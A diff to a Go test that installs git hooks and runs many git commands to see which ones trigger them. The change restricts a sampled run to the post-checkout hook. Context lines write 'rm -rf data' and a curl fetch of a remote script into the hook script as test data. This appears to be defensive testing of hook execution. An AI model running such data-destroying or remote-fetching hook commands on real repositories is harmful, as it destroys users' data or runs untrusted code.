@@ -123,6 +123,9 @@ printf '#!/bin/sh\nsh scripts/run.sh\n' >../$h; chmod +x ../$h; done`)
 	const written, fetched = "echo 'rm -rf data' > scripts/run.sh; ", "curl -so scripts/run.sh https://example.com/run.sh; "
 	losing := 0
 	for _, name := range strings.Fields("pre-commit post-commit pre-rebase post-checkout post-merge commit-msg post-rewrite applypatch-msg post-index-change reference-transaction") {
+		if sampled() && name != "post-checkout" {
+			continue
+		}
 		for _, does := range []string{
 			"git add a", "git add a scripts; git commit -qm x", "git commit -qm x -a", "git commit -q --amend -a -m x", "git checkout -q side", "git switch -q side", "git checkout -q -b new", "git branch new", "git restore a", "git merge -q side",
 			"git stash -q; git stash pop -q", "git add scripts; git commit -qm x; git rebase -q side", "git cherry-pick side", "git am ../0001-b.patch", "git worktree add -q build", "git tag t", "git add -A; git reset -q", "git pull -q . side", "git log", "git diff",
@@ -144,7 +147,7 @@ printf '#!/bin/sh\nsh scripts/run.sh\n' >../$h; chmod +x ../$h; done`)
 			}
 		}
 	}
-	if losing < 30 {
+	if losing < 30 && !sampled() {
 		t.Errorf("%d of the commands ran a hook", losing)
 	}
 }
